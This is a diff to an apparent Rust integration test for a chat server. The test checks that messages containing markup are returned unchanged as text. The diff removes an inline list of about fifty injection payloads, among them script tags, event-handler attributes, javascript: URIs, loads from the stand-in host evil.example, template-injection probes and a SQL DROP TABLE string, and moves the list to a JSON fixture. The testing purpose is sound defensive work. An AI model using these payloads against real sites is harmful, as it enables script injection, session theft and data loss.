@@ -5,66 +5,17 @@ use serde_json::json;
 
 use crate::fixtures::server::Server;
 
-/// Texts that break pages which treat text as markup, addresses or code.
-const MARKUP: [&str; 50] = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<img/src='x'/onerror='alert(1)'>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<body onload=alert(1)>",
-    "<iframe src=javascript:alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<a href=\"javascript:alert(1)\">x</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "<math><mi xlink:href=javascript:alert(1)>x",
-    "<object data=javascript:alert(1)>",
-    "<embed src=javascript:alert(1)>",
-    "<form action=javascript:alert(1)><button>x",
-    "<input autofocus onfocus=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)>",
-    "<audio src onerror=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<style>@import 'https://evil.example'</style>",
-    "<style>*{background:url(javascript:alert(1))}</style>",
-    "<link rel=stylesheet href=//evil.example>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<base href=//evil.example>",
-    "<template><script>alert(1)</script></template>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "</textarea><script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "--><script>alert(1)</script>",
-    "]]><script>alert(1)</script>",
-    "\"><script>alert(1)</script>",
-    "'-alert(1)-'",
-    "\";alert(1);//",
-    "${alert(1)}",
-    "{{constructor.constructor('alert(1)')()}}",
-    "#{7*7}",
-    "<%= 7*7 %>",
-    "javascript:alert(1)",
-    "JaVaScRiPt:alert(1)",
-    "java\tscript:alert(1)",
-    "vbscript:msgbox(1)",
-    "data:text/html;base64,PHNjcmlwdD4=",
-    "//evil.example",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;",
-    "%3Cscript%3Ealert(1)%3C/script%3E",
-    "\\u003cscript\\u003e",
-    "'; DROP TABLE messages; --",
-    "\" OR \"\"=\"",
-];
+/// Texts that break pages which treat text as markup, addresses or code. A story has a browser show them.
+const MARKUP: &str = include_str!("../../../../../tests/markup.json");
 
 #[tokio::test]
 async fn markup_is_returned_unchanged_as_text() {
     let server = Server::start().await;
     let host = server.sign_in("<b>Hanna</b> & \"co\"").await;
     let room = host.create_room().await;
-    for chunk in MARKUP.chunks(4) {
+    let markup: Vec<String> = serde_json::from_str(MARKUP).unwrap();
+    assert!(markup.len() >= 50);
+    for chunk in markup.chunks(4) {
         // From many users, so that none exceeds the rate limit.
         let guest = server.sign_in("<img src=x onerror=1>").await;
         for text in chunk {
@@ -74,7 +25,7 @@ async fn markup_is_returned_unchanged_as_text() {
         }
     }
     let page: Page<ChatMessage> = host.get(&format!("/rooms/{}/chat?limit=100", room.id)).await.read();
-    assert_eq!(page.items.len(), MARKUP.len());
+    assert_eq!(page.items.len(), markup.len());
 }
 
 #[tokio::test]
